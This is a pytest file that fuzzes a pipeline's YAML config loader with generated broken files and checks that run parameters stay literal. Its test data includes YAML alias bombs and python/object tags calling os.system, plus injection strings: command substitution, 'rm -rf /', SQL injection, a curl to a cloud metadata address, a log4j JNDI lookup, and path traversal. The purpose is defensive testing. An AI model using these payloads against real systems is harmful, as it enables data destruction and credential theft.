"""Hundreds of broken step files: each is answered with a list of problems, never with a traceback or a call."""

from __future__ import annotations

import random
import shutil
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

from foldline.cli.plan import planned_calls
from foldline.config import load_pipeline, problems
from foldline.errors import ConfigError
from foldline.stepfiles.problems import Problem

ROOT = Path(__file__).parents[3]
FOLDER = ROOT / "infra" / "flight_delays"
WRONG: dict[type, list[object]] = {
    str: [7, [], {}, True],
    int: ["seven", -1, 1.5, [], "1e3", True, 10**17],
    float: ["much", [], {}, True, ".inf"],
    bool: ["no", 1, "yes", []],
    list: ["text", 7, {}, [[]]],
    dict: ["text", 7, [1]],
}
"""Values that no setting takes whose present value is of the type."""
FREE = frozenset(["rules", "parameters", "hyperparameters", "description", "params"])
"""Keys below which a user writes what they like."""
NEEDED = frozenset(
    ["database", "query", "tables", "row_id", "label", "estimator", "metric", "job", "endpoint"]
)
TEXTS = {
    "unclosed list": "x: [1, 2\n",
    "unclosed quote": "x: 'abc\n",
    "tab": "x:\n\t- 1\n",
    "bad indent": "x: 1\n  y: 2\n",
    "alias bomb": "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: [*c, *c]\n",
    "billion laughs": "".join(
        f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9) if n else 'lol'}]\n" for n in range(9)
    ),
    "python object": "x: !!python/object/apply:os.system ['true']\n",
    "python name": "x: !!python/name:os.system\n",
    "binary tag": "x: !!binary aGVsbG8=\n",
    "own tag": "x: !secret y\n",
    "merge key": "x: {<<: {a: 1}}\n",
    "duplicate key": "x: 1\nx: 2\n",
    "duplicate below": "x: {a: 1, b: 2, a: 3}\n",
    "deep lists": "x: " + "[" * 500 + "]" * 500 + "\n",
    "deep maps": "x: " + "{a: " * 500 + "1" + "}" * 500 + "\n",
    "very deep": "x: " + "[" * 90_000 + "\n",
    "two documents": "x: 1\n---\ny: 2\n",
    "a list": "- 1\n- 2\n",
    "a text": "just words\n",
    "a number key": "1: x\n? [a, b]\n: y\n",
    "null byte": "x: \x00\n",
    "control signs": "x: \x07\n",
    "directive": "%YAML 9.9\n---\nx: 1\n",
    "not a date": "x: 2013-02-31\n",
    "megabyte": "x: " + "v" * 1_100_000 + "\n",
    "long value": "description: " + "v" * 900_000 + "\n",
    "long key": "k" * 100_000 + ": 1\n",
    "many keys": "".join(f"k{n}: {n}\n" for n in range(20_000)),
    "jinja": "x: {{ conf.y }}\n",
    "jinja block": "{% if x %}\ny: 1\n{% endif %}\n",
    "unicode": "ключ: значение\n\u202eevil: 1\n",
    "only anchors": "&a\n",
    "a stray alias": "x: *nowhere\n",
}
"""Whole files that are no step file, by what is wrong with them."""


def leaves(value: object, path: tuple[str, ...] = ()) -> Iterator[tuple[tuple[str, ...], object]]:
    """Every mapping's entry below ``value``, with its path."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield (*path, key), item
            yield from leaves(item, (*path, key))


def changed(document: dict, path: tuple[str, ...], value: object) -> dict:
    """A copy of ``document`` with ``value`` at ``path``."""
    head, *rest = path
    return {**document, head: changed(document[head], tuple(rest), value) if rest else value}


def broken_files() -> Iterator[tuple[str, str, str]]:
    """File, what is wrong with it, and its text: the same ones on every run."""
    chance = random.Random(57)
    for file in sorted(FOLDER.glob("*.yaml")):
        document = yaml.load(file.read_text(), yaml.BaseLoader)
        typed = yaml.safe_load(file.read_text())
        for path, value in leaves(typed):
            wrong = WRONG.get(type(value))
            if wrong is None or FREE.intersection(path):
                continue
            for bad in chance.sample(wrong, 2):
                name = f"{'.'.join(path)}={bad!r}"
                yield file.name, name, yaml.safe_dump(changed(document, path, bad), allow_unicode=True)
        for path, value in [((), typed), *leaves(typed)]:
            if isinstance(value, dict) and not FREE.intersection(path):
                extra = {**value, "unknwon_key": 1}
                text = yaml.safe_dump(changed(document, path, extra) if path else extra)
                yield file.name, f"unknown key in {'.'.join(path) or 'the file'}", text
        for key in typed:
            if key in NEEDED:
                rest = {name: item for name, item in typed.items() if name != key}
                yield file.name, f"without {key}", yaml.safe_dump(rest)
    for name, text in TEXTS.items():
        yield "training.yaml", name, text
        yield "pipeline.yaml", name, text


CASES = [pytest.param(file, text, id=f"{file}: {name}") for file, name, text in broken_files()]


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    """A copy of the repository's pipelines, put right again after each test."""
    root = tmp_path_factory.mktemp("project")
    shutil.copytree(ROOT / "infra", root / "infra")
    return root


CONNECTED: list[object] = []
sys.addaudithook(lambda event, arguments: CONNECTED.append(arguments) if event == "socket.connect" else None)


@pytest.fixture(autouse=True)
def no_network():
    """No test here opens a connection: a config is read, and nothing is called."""
    before = len(CONNECTED)
    yield
    assert [] == CONNECTED[before:]


def told(root: Path, file: str, text: str) -> list[Problem]:
    """The problems of the pipeline while ``file`` holds ``text``."""
    path = root / "infra" / "flight_delays" / file
    before = path.read_bytes()
    path.write_bytes(text.encode("utf-8", "surrogatepass"))
    try:
        return problems("flight_delays", env="local", root=root)
    finally:
        path.write_bytes(before)


def test_there_are_enough_of_them():
    """
    The generator makes at least 200 files.
    """
    assert len(CASES) >= 200


@pytest.mark.parametrize(("file", "text"), CASES)
def test_a_broken_file_is_answered_with_problems(project, file, text):
    """
    Each problem names a file and says in bounded words what is wrong; at least one is in the broken file.
    """
    found = told(project, file, text)
    mine = [problem for problem in found if problem.file == f"infra/flight_delays/{file}"]
    assert mine, [str(problem) for problem in found]
    for problem in mine:
        assert problem.line or not problem.path, problem
        assert len(problem.message) <= 600, problem.message[:200]
        assert "Traceback" not in problem.message


CONF = [
    "{{ 7 * 7 }}",
    "{{ conn.aws_default.password }}",
    "{% for x in y %}a{% endfor %}",
    "{# note #}",
    "$(id)",
    "`id`",
    "; rm -rf /",
    "' OR 1=1 --",
    '" && curl http://169.254.169.254/',
    "${jndi:ldap://x}",
    "\n---\nx: !!python/object:os",
    "ünï ☃ \u202e",
    "../../etc/passwd",
    "%s%n{0}{x!r}",
    "\x00",
]
"""What somebody may write into a run's conf."""


@pytest.mark.parametrize("value", CONF)
@pytest.mark.parametrize("setting", ["training.hyperparameters.note", "training.job.environment.NOTE"])
def test_a_param_is_a_literal_or_refused(project, setting, value):
    """
    A request holds the very text of a trigger's conf, or the run is refused; it is never a template or a command.
    """
    folder = project / "infra" / "flight_delays"
    kept = {name: (folder / name).read_text() for name in ("pipeline.yaml", "training.yaml")}
    (folder / "pipeline.yaml").write_text(f"{kept['pipeline.yaml']}  note: {setting}\n")
    body = kept["training.yaml"].replace("job: {", "job: {environment: {NOTE: plain}, ")
    (folder / "training.yaml").write_text(f"{body}hyperparameters: {{note: plain}}\n")
    try:
        pipeline = load_pipeline("flight_delays", env="local", root=project).with_params({"note": value})
        (request,) = [call.request for call in planned_calls(pipeline) if call.step == "training"]
    finally:
        for name, text in kept.items():
            (folder / name).write_text(text)
    if "environment" in setting:
        assert value == request["Environment"]["NOTE"]
    else:
        assert value == yaml.safe_load(request["HyperParameters"]["note"]) or "\x00" in value


@pytest.mark.parametrize("value", CONF)
@pytest.mark.parametrize("param", ["from_date", "folds", "margin"])
def test_a_typed_param_takes_no_text(param, value):
    """
    Dates and numbers take dates and numbers: text is refused before any request is built.
    """
    with pytest.raises(ConfigError, match=param):
        load_pipeline("flight_delays", env="local", root=ROOT).with_params({param: value})


@pytest.mark.parametrize(
    "name", ["endpoint_url", "image", "role", "training.job.image", "__class__", "{{ x }}"]
)
def test_conf_reaches_declared_params_only(name):
    """
    Roles, images and addresses of endpoints are no params: a name that the pipeline does not declare is refused.
    """
    with pytest.raises(ConfigError, match="is not one of"):
        load_pipeline("flight_delays", env="local", root=ROOT).with_params({name: "x"})
